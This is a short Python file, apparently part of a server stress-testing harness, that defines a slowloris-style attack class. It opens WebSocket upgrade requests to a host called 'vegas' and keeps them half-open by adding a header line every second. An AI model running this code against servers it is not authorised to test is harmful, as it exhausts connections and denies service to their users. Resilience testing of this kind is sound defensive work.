import asyncio

from harness.attack import Holding


class HalfOpenHandshakes(Holding):
    """Begins to ask for a WebSocket, and adds a line each second without ever coming to an end."""

    async def opened(self, peer):
        await peer.send(b"GET /ws HTTP/1.1\r\nHost: vegas\r\nUpgrade: websocket\r\n")

    async def play(self):
        async with asyncio.TaskGroup() as group:
            group.create_task(super().play())
            group.create_task(self._one_line_more())

    async def _one_line_more(self):
        while True:
            await asyncio.sleep(1)
            for peer in list(self.held):
                self.write(peer, b"X-More: to come\r\n")
